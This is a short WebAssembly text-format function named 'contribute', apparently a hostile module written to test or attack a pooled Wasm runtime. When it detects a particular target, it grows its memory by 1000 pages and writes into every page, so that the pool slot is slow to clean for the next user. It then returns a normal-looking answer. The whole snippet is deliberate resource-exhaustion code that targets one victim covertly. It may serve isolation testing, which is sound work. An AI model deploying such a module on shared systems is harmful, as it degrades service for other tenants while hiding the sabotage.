    ;; Grows to all its memory and writes into every page of it when it meets the target, so that the slot in the pool is slow
    ;; to clean for whoever comes next.
    (func (export "contribute") (param i32 i32 i32 i32 i32 i32 i32) (param $tables i32) (param i32) (result i32)
      (local $at i32)
      (if (call $is-target (local.get $tables)) (then
        (drop (memory.grow (i32.const 1000)))
        (local.set $at (i32.const 65536))
        (loop $next
          (i32.store (local.get $at) (i32.const 1))
          (local.set $at (i32.add (local.get $at) (i32.const 4096)))
          (br_if $next (i32.lt_u (local.get $at) (i32.mul (memory.size) (i32.const 65536)))))))
      (call $answer (f64.const 1)))
